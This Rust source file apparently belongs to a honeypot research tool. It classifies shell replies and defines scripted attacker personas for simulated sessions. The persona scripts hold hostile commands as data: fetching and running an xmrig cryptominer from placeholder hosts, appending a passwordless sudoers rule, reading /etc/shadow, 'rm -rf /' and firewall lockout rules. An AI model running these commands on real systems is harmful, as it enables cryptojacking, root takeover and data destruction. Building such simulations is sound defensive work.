use std::collections::BTreeMap;
use std::fmt;

use serde::{Deserialize, Serialize};

use crate::policy::{errno_description, MessageLists};

/// What an attacker can tell about a reply just by reading it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum OutcomeClass {
    NormalOutput,
    BlockMessage,
    InsultMessage,
    CommandNotFound,
}

impl OutcomeClass {
    pub const ALL: [OutcomeClass; 4] =
        [Self::NormalOutput, Self::BlockMessage, Self::InsultMessage, Self::CommandNotFound];

    pub fn as_str(self) -> &'static str {
        match self {
            Self::NormalOutput => "normal-output",
            Self::BlockMessage => "block-message",
            Self::InsultMessage => "insult-message",
            Self::CommandNotFound => "command-not-found",
        }
    }
}

impl fmt::Display for OutcomeClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Labels replies using the message texts the honeypot draws from.
#[derive(Debug, Clone)]
pub struct Classifier {
    errno: Vec<String>,
    insults: Vec<String>,
}

impl Default for Classifier {
    fn default() -> Self {
        Self::new(&MessageLists::bundled())
    }
}

impl Classifier {
    pub fn new(lists: &MessageLists) -> Self {
        Self {
            errno: lists.errno.iter().map(|e| errno_description(e).to_string()).collect(),
            insults: lists.insults.clone(),
        }
    }

    pub fn classify(&self, input: &str, output: &str) -> OutcomeClass {
        let text = output.trim_end_matches('\n');
        let program = input.split_whitespace().next().unwrap_or_default();
        if !text.contains('\n') {
            if text.ends_with(": command not found") && text.starts_with("bash: ") {
                return OutcomeClass::CommandNotFound;
            }
            if self.insults.iter().any(|i| i == text) {
                return OutcomeClass::InsultMessage;
            }
            let prefix = format!("bash: {program}: ");
            if let Some(rest) = text.strip_prefix(&prefix) {
                if self.errno.iter().any(|e| e == rest) {
                    return OutcomeClass::BlockMessage;
                }
            }
        }
        OutcomeClass::NormalOutput
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case", tag = "kind")]
pub enum Reaction {
    Proceed,
    /// Re-send the same input, at most `max` extra times per step.
    Repeat { max: u32 },
    /// Jump forward to another step of the script.
    TryAlternative { step: usize },
    SendInsultBack,
    PressReturn { times: u32 },
    Resign,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Step {
    /// `{user}` expands to the login name, `{tag}` to a random hex token.
    pub input: String,
    #[serde(default)]
    pub rules: BTreeMap<OutcomeClass, Reaction>,
}

impl Step {
    pub fn new(input: &str) -> Self {
        Self { input: input.to_string(), rules: BTreeMap::new() }
    }

    pub fn on(mut self, class: OutcomeClass, reaction: Reaction) -> Self {
        self.rules.insert(class, reaction);
        self
    }

    pub fn on_denied(self, reaction: Reaction) -> Self {
        self.on(OutcomeClass::BlockMessage, reaction.clone()).on(OutcomeClass::InsultMessage, reaction)
    }

    pub fn always(mut self, reaction: Reaction) -> Self {
        for c in OutcomeClass::ALL {
            self.rules.insert(c, reaction.clone());
        }
        self
    }

    pub fn reaction(&self, class: OutcomeClass) -> &Reaction {
        self.rules.get(&class).unwrap_or(&Reaction::Proceed)
    }

    fn bound(&self) -> usize {
        let mut repeats = 0;
        let mut extra = 0;
        for r in self.rules.values() {
            match r {
                Reaction::Repeat { max } => repeats = repeats.max(*max as usize),
                Reaction::PressReturn { times } => extra = extra.max(*times as usize),
                Reaction::SendInsultBack => extra = extra.max(1),
                _ => {}
            }
        }
        1 + repeats + extra
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PersonaError {
    #[error("persona {persona}: step {step} jumps to step {target}, which is not later in the script")]
    BadAlternative { persona: String, step: usize, target: usize },
    #[error("persona {persona}: step {step} has an empty input")]
    EmptyInput { persona: String, step: usize },
    #[error("persona name must not be empty")]
    EmptyName,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Persona {
    pub name: String,
    pub description: String,
    /// Relative frequency when a campaign picks personas at random.
    pub weight: u32,
    pub steps: Vec<Step>,
}

impl Persona {
    pub fn new(name: &str, description: &str, weight: u32, steps: Vec<Step>) -> Result<Self, PersonaError> {
        let p = Self { name: name.to_string(), description: description.to_string(), weight, steps };
        p.validate()?;
        Ok(p)
    }

    /// Alternatives must point strictly forward so every script terminates.
    pub fn validate(&self) -> Result<(), PersonaError> {
        if self.name.is_empty() {
            return Err(PersonaError::EmptyName);
        }
        for (i, step) in self.steps.iter().enumerate() {
            if step.input.trim().is_empty() {
                return Err(PersonaError::EmptyInput { persona: self.name.clone(), step: i });
            }
            for r in step.rules.values() {
                if let Reaction::TryAlternative { step: target } = r {
                    if *target <= i || *target >= self.steps.len() {
                        return Err(PersonaError::BadAlternative {
                            persona: self.name.clone(),
                            step: i,
                            target: *target,
                        });
                    }
                }
            }
        }
        Ok(())
    }

    /// Upper bound on the number of lines (blank ones included) a run sends.
    pub fn step_bound(&self) -> usize {
        self.steps.iter().map(Step::bound).sum()
    }
}

const MINER_HOSTS: [&str; 2] = ["dl.coinpool-mirror.example", "cdn.fastminer.example"];

fn miner_installer() -> Persona {
    use OutcomeClass::*;
    let fetch = |host: &str, tool: &str| format!("{tool} http://{host}/xmrig-6.21-static.tar.gz -O xmrig.tgz");
    let steps = vec![
        Step::new("uname -a"),
        Step::new("cat /proc/cpuinfo"),
        Step::new("nproc"),
        Step::new("cd /tmp").on_denied(Reaction::Repeat { max: 1 }),
        Step::new(&fetch(MINER_HOSTS[0], "wget")).on(CommandNotFound, Reaction::TryAlternative { step: 5 }),
        Step::new(&format!("curl -fsSL http://{}/xmrig-6.21-static.tar.gz -o xmrig.tgz", MINER_HOSTS[1])),
        Step::new("tar xzf xmrig.tgz"),
        Step::new("chmod +x xmrig"),
        Step::new("./xmrig -o pool.coinpool-mirror.example:3333 -u {tag} --background").always(Reaction::Resign),
    ];
    Persona::new("miner-installer", "fetches a cryptominer from two sources, runs it, resigns when it fails", 10, steps)
        .expect("builtin persona")
}

fn privilege_escalator() -> Persona {
    let steps = vec![
        Step::new("id"),
        Step::new("sudo -l").on_denied(Reaction::TryAlternative { step: 3 }),
        Step::new("sudo su -"),
        Step::new("cat /etc/sudoers"),
        Step::new("echo '{user} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"),
        Step::new("su root").on_denied(Reaction::Repeat { max: 1 }),
        Step::new("cat /etc/shadow"),
        Step::new("passwd root"),
        Step::new("id"),
        Step::new("exit"),
    ];
    Persona::new("privilege-escalator", "tries to take over the root account via sudo and sudoers", 10, steps)
        .expect("builtin persona")
}

fn destroyer() -> Persona {
    let steps = vec![Step::new("ls -la /"), Step::new("rm -rf /").always(Reaction::Resign)];
    Persona::new("destroyer", "wipes the filesystem and leaves", 6, steps).expect("builtin persona")
}

fn fortifier() -> Persona {
    let steps = vec![
        Step::new("apt-get install -y ufw").on(OutcomeClass::BlockMessage, Reaction::TryAlternative { step: 2 }),
        Step::new("ufw enable"),
        Step::new("iptables -F"),
        Step::new("iptables -A INPUT -p tcp --dport 22 -s 0.0.0.0/0 -j DROP"),
        Step::new("iptables -A INPUT -p tcp --dport 22 -s 10.0.0.0/8 -j ACCEPT"),
        Step::new("iptables -L -n"),
        Step::new("crontab -l"),
        Step::new("exit"),
    ];
    Persona::new("fortifier", "locks the box down with firewall rules for itself", 8, steps)
        .expect("builtin persona")
}

/// Commands the repeater cycles through.
pub const REPEATER_COMMANDS: [&str; 5] = ["uname -a", "cat /etc/passwd", "ps aux", "w", "df -h"];

fn repeater() -> Persona {
    let steps = REPEATER_COMMANDS.iter().map(|c| Step::new(c).on_denied(Reaction::Repeat { max: 3 })).collect();
    Persona::new("repeater", "repeats every blocked or insulted command up to three times", 10, steps)
        .expect("builtin persona")
}

fn return_spammer() -> Persona {
    let steps = ["ls", "cat .bash_history", "uname -r", "ps -ef", "free -m", "ls /tmp"]
        .iter()
        .map(|c| Step::new(c).on(OutcomeClass::InsultMessage, Reaction::PressReturn { times: 6 }))
        .collect();
    Persona::new("return-spammer", "hammers the return key after being insulted", 8, steps).expect("builtin persona")
}

fn login_only() -> Persona {
    Persona::new("login-only", "checks the credentials work and disconnects", 22, Vec::new()).expect("builtin persona")
}

fn explorer() -> Persona {
    let steps = [
        "pwd", "ls -la", "cd work", "ls", "cd ..", "ls private", "cat private/todo.txt", "cat work/notes.txt", "cat /etc/os-release",
        "ifconfig", "w", "history", "cat /etc/passwd", "df -h", "free -m", "uptime", "exit",
    ]
    .iter()
    .map(|c| Step::new(c).on(OutcomeClass::InsultMessage, Reaction::SendInsultBack))
    .collect();
    Persona::new("explorer", "looks around the home directories and system files", 18, steps)
        .expect("builtin persona")
}

fn lurker() -> Persona {
    let cycle = ["ls", "w", "ps aux", "uptime", "cat /proc/meminfo", "df -h", "ls /tmp", "date", "id", "history"];
    let steps = (0..150)
        .map(|i| Step::new(cycle[i % cycle.len()]).on(OutcomeClass::InsultMessage, Reaction::SendInsultBack))
        .collect();
    Persona::new("lurker", "stays connected for a long time issuing harmless commands", 8, steps)
        .expect("builtin persona")
}

pub fn builtin_personas() -> Vec<Persona> {
    vec![
        miner_installer(),
        privilege_escalator(),
        destroyer(),
        fortifier(),
        repeater(),
        return_spammer(),
        login_only(),
        explorer(),
        lurker(),
    ]
}

pub fn persona_by_name(name: &str) -> Option<Persona> {
    builtin_personas().into_iter().find(|p| p.name == name)
}

/// Lines sent back after an insult.
pub const INSULT_BACK: [&str; 4] = ["who are you", "lol nice try bot", "shut up machine", "is this a honeypot?"];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_set_is_valid() {
        let ps = builtin_personas();
        assert!(ps.len() >= 7);
        for name in [
            "miner-installer", "privilege-escalator", "destroyer", "fortifier", "repeater", "return-spammer",
            "login-only",
        ] {
            assert!(ps.iter().any(|p| p.name == name), "{name}");
        }
        for p in &ps {
            p.validate().unwrap();
        }
    }

    #[test]
    fn backward_alternative_rejected() {
        let steps = vec![Step::new("ls"), Step::new("id").on(OutcomeClass::BlockMessage, Reaction::TryAlternative { step: 0 })];
        assert!(matches!(Persona::new("x", "", 1, steps), Err(PersonaError::BadAlternative { .. })));
    }

    #[test]
    fn classifier_labels() {
        let c = Classifier::default();
        assert_eq!(c.classify("foo", "bash: foo: command not found\n"), OutcomeClass::CommandNotFound);
        assert_eq!(c.classify("uname -a", "bash: uname: Permission denied\n"), OutcomeClass::BlockMessage);
        assert_eq!(c.classify("cd x", "bash: cd: x: No such file or directory\n"), OutcomeClass::NormalOutput);
        let insult = MessageLists::bundled().insults[0].clone();
        assert_eq!(c.classify("ls", &format!("{insult}\n")), OutcomeClass::InsultMessage);
        assert_eq!(c.classify("ls", "a\nb\n"), OutcomeClass::NormalOutput);
    }

    #[test]
    fn step_bounds() {
        assert_eq!(persona_by_name("repeater").unwrap().step_bound(), 5 * 4);
        assert_eq!(persona_by_name("login-only").unwrap().step_bound(), 0);
    }
}
